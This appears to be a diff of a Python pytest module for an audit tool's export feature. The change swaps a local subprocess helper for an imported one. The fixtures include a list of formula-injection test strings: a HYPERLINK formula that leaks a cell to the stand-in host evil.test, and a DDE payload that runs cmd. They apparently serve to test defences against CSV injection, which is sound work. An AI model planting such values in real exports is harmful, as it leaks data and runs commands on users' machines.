@@ -6,9 +6,6 @@ from __future__ import annotations
 
 import csv
 import json
-import os
-import subprocess
-import sys
 from datetime import UTC, datetime
 from pathlib import Path
 
@@ -17,8 +14,8 @@ import pytest
 
 from probes.base import Channel, Observation, Status
 from results.store import Store
+from tests.cli_process import audit_process
 
-CLI = [sys.executable, "-c", "from audit.cli import main; main()"]
 HOSTILE = [
     '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
     "+1+cmd|' /C calc'!A0",
@@ -31,16 +28,10 @@ DETAIL = "=2+5 detail"
 HARMLESS = "Good Co"
 
 
-def cli(*args: str) -> subprocess.CompletedProcess[str]:
-    return subprocess.run(
-        [*CLI, *args], capture_output=True, text=True, timeout=120, env={**os.environ}
-    )
-
-
 @pytest.fixture
 def workspace(tmp_path: Path) -> Path:
     ws = tmp_path / "ws"
-    assert cli("init", str(ws)).returncode == 0
+    assert audit_process("init", str(ws)).returncode == 0
     store = Store.open(f"sqlite:///{ws / 'audit.db'}")
     names = [*HOSTILE, HARMLESS]
     store.save_campaign(
@@ -67,7 +58,9 @@ def workspace(tmp_path: Path) -> Path:
 
 
 def export(workspace: Path, out: Path, fmt: str, *extra: str) -> Path:
-    result = cli("export", "-w", str(workspace), "--format", fmt, "--out", str(out), *extra)
+    result = audit_process(
+        "export", "-w", str(workspace), "--format", fmt, "--out", str(out), *extra
+    )
     assert result.returncode == 0, result.stderr
     return out
 
